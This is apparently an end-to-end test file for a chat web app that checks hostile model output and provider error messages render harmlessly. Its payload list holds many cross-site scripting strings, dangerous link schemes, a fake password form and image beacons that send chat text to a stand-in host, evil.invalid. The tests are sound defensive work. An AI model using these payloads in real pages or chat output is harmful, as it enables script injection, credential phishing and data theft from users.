import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { answers as answersWith } from '../../apps/server/src/testing/upstream-behaviours.ts';
import { SIZES, sidewaysScroll } from './browser.ts';
import { answered, answers, openAsMember, say } from './person.ts';
import { scriptedPages } from './scripted-pages.ts';

const MODEL = 'openai/gpt-5.5';
const LONG_WORD = 'W'.repeat(3_000);

/** A host that nothing may be asked of. `pwned()` is what a script would call. */
const EVIL = 'https://evil.invalid';
const RUN = 'window.pwned=1';

/** What a hostile model may write. Each is a block of its own. */
const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/pixel.png?words=of-the-chat">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">press</text></a></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></math>`,
  `<iframe src="${EVIL}" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x.swf">`,
  `<form action="${EVIL}"><input name=password><button>Sign in again</button></form>`,
  `<style>@import url(${EVIL}/x.css); body { display: none }</style>`,
  `<link rel=stylesheet href="${EVIL}/x.css"><meta http-equiv=refresh content="0;url=${EVIL}"><base href="${EVIL}">`,
  `<body onload="${RUN}"><details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video autoplay onloadstart="${RUN}"><source src="${EVIL}/v.mp4"></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<div style="position:fixed;inset:0;background:url(${EVIL}/bg.png)">over everything</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<a href="javascript:${RUN}" onclick="${RUN}">html link</a>`,
  `[script link](javascript:${RUN})`,
  `[upper script link](JaVaScRiPt:${RUN})`,
  `[entity link](java&#115;cript:${RUN})`,
  `[tab link](<java\tscript:${RUN}>)`,
  `[data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `[vbscript link](vbscript:${RUN})`,
  `[file link](file:///etc/passwd)`,
  `[blob link](blob:${EVIL}/1)`,
  `[own path](/api/v1/auth/logout)`,
  `[protocol relative](//evil.invalid/x)`,
  `[credentials](https://bank.example@evil.invalid/)`,
  `[reference link][r]`,
  `[r]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `![picture](${EVIL}/picture.png?words=of-the-chat)`,
  `![picture "quote" onerror=${RUN}](${EVIL}/x.png "title\\" onerror=${RUN} x=\\"")`,
  `![data picture](data:image/svg+xml,<svg onload=${RUN}>)`,
  `![script picture](javascript:${RUN})`,
  `[![picture in a link](${EVIL}/inner.png)](${EVIL})`,
  `| head <img src=x onerror=${RUN}> |\n| --- |\n| cell <script>${RUN}</script> |`,
  `- [ ] <img src=x onerror=${RUN}>\n- [x] done`,
  `\`\`\`html\n<script>${RUN}</script>\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode with a hostile name\n\`\`\``,
  `\`\`\`svg\n<svg onload="${RUN}"></svg>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `$\\href{javascript:${RUN}}{x}$ and $$\\html{<img src=x onerror=${RUN}>}$$`,
  `\\[\\href{javascript:${RUN}}{x} \\url{javascript:${RUN}} \\includegraphics{${EVIL}/x.png}\\]`,
  `\\(\\htmlStyle{position:fixed;inset:0;background:url(${EVIL}/x)}{x} \\htmlId{main}{y}\\)`,
  `$$\\text{<img src=x onerror=${RUN}>} \\rule{9999em}{9999em} \\kern 99999em x$$`,
  `$$\\def\\a{\\a\\a}\\a$$`,
  `$$\\color{red;background:url(${EVIL}/x)} x$$`,
  `$$${'{'.repeat(500)}x${'}'.repeat(500)}$$`,
  `# <img src=x onerror=${RUN}>`,
  `Footnote[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `javascript:${RUN} www.evil.invalid ${EVIL}/auto?link`,
  LONG_WORD,
  `\`${LONG_WORD}\``,
  `\`\`\`\n${LONG_WORD}\n\`\`\``,
  `${EVIL}/${'long'.repeat(500)}`,
  `> ${'> '.repeat(40)}deep`,
  `- ${'- '.repeat(40)}deep`,
  '\u202Egnp.exe \u2066reversed\u2069 \u202Dleft\u202C and \u0000 \uFFFE \u200B zero',
  `${'z\u0310\u0341\u0312'.repeat(200)}`,
  '| wide |'.repeat(60),
];

const stage = scriptedPages();

/** Collects what the page must not do on its own: ask another host, open a dialog or a window. */
function watchForEscapes(page: Page): string[] {
  const escapes: string[] = [];
  const own = new URL(stage.pages.url).host;
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (['http:', 'https:'].includes(url.protocol) && url.host !== own) escapes.push(request.url());
  });
  page.on('dialog', (dialog) => {
    escapes.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => void escapes.push(`window: ${popup.url()}`));
  return escapes;
}

/** Everything in the conversation that could act: elements, attributes and addresses that have no business there. */
function dangerousParts(page: Page): Promise<string[]> {
  return page.evaluate<string[]>(`(() => {
    const log = document.querySelector('[role=log]');
    const found = [...log.querySelectorAll(
      'script, img, picture, iframe, frame, object, embed, form, style, link, meta, base, math, video, audio, source, ' +
      '.md svg:not(button svg), .md input:not([type=checkbox][disabled]), .md button:not([aria-label^="Copy "]), .md [style]'
    )]
      // Formulas are set with sizes and MathML; addresses and places on the page have no business in them either.
      .filter((element) => !element.closest('.katex') ||
        /url|position|fixed|background/.test(element.getAttribute('style') ?? '') || element.matches('img, a'))
      .map((element) => element.outerHTML.slice(0, 200));
    for (const element of log.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on')) found.push(name + '=' + value);
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data'].includes(name)) {
          const safe = name === 'href' && element.localName === 'a' && /^(https?:\\/\\/(?!.*@)|mailto:|#)/.test(value);
          if (!safe) found.push(element.localName + ' ' + name + '=' + value);
        }
      }
    }
    for (const link of log.querySelectorAll('a[href]:not([href^="#"])')) {
      const rel = link.relList;
      if (link.target !== '_blank' || !rel.contains('noopener') || !rel.contains('noreferrer')) found.push(link.outerHTML);
    }
    if ('pwned' in window) found.push('a script ran');
    return found;
  })()`);
}

/** Text in pieces that cut words, marks and tags anywhere. */
function inPieces(text: string, length: number): string[] {
  return Array.from({ length: Math.ceil(text.length / length) }, (_, index) =>
    text.slice(index * length, (index + 1) * length),
  );
}

describe('text of a hostile model', () => {
  it.each(Object.keys(SIZES) as (keyof typeof SIZES)[])(
    'does nothing, loads nothing and moves nothing on a %s',
    async (size) => {
      stage.upstream.script(answersWith({ pieces: inPieces(PAYLOADS.join('\n\n'), 211) }));
      const { page } = await openAsMember(stage.pages, `/chat?model=${MODEL}`, { size });
      const escapes = watchForEscapes(page);
      await page.evaluate(`new MutationObserver(() => {
        if (document.querySelector('[role=log] :is(script, img, iframe, object, embed, form, style)')) window.pwned = 1;
      }).observe(document.body, { subtree: true, childList: true })`);
      await say(page, `Write <img src=x onerror="${RUN}"> **for me** ${LONG_WORD}`);
      await answered(page);
      const answer = answers(page).first();
      await answer.getByText(`<script>${RUN}</script>`, { exact: true }).first().waitFor();
      expect(await dangerousParts(page)).toEqual([]);
      expect(await sidewaysScroll(page)).toBe(0);
      for (const name of ['script link', 'data link', 'own path', 'credentials', 'reference link'])
        expect(await answer.getByRole('link', { name, exact: true }).count(), name).toBe(0);
      await answer.getByText('Image: picture').first().waitFor();
      expect(await answer.getByRole('link', { name: 'Open from evil.invalid' }).count()).toBeGreaterThan(0);
      // A question is never Markdown, and its words become the title of the chat.
      await page.getByRole('log').getByText('**for me**').waitFor();
      await page.reload();
      await answer.getByText('Image: picture').first().waitFor();
      expect(await dangerousParts(page)).toEqual([]);
      expect(await sidewaysScroll(page)).toBe(0);
      expect(escapes).toEqual([]);
    },
  );

  it('is inert at every moment while it comes', async () => {
    const { page } = await openAsMember(stage.pages, `/chat?model=${MODEL}`);
    const escapes = watchForEscapes(page);
    for (const length of [2, 7]) {
      const text = PAYLOADS.filter((payload) => payload.length < 400).join('\n\n');
      stage.upstream.script(answersWith({ pieces: inPieces(text, length) }));
      await page.getByRole('link', { name: 'New chat' }).click();
      await say(page, 'Slowly');
      await answered(page);
      expect(await dangerousParts(page), `${length}`).toEqual([]);
    }
    expect(escapes).toEqual([]);
  });

  it('from the provider’s errors is words too', async () => {
    stage.upstream.script(({ response }) => {
      const message = `<img src=x onerror="${RUN}"> [x](javascript:${RUN})`;
      response.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ error: { message } }));
    });
    const { page } = await openAsMember(stage.pages, `/chat?model=${MODEL}`);
    const escapes = watchForEscapes(page);
    await say(page, 'Fail');
    await page.getByRole('region', { name: 'The message was not answered' }).waitFor();
    expect(await page.locator('main img, main a[href^=javascript]').count()).toBe(0);
    expect(await page.evaluate('"pwned" in window')).toBe(false);
    expect(escapes).toEqual([]);
  });
});
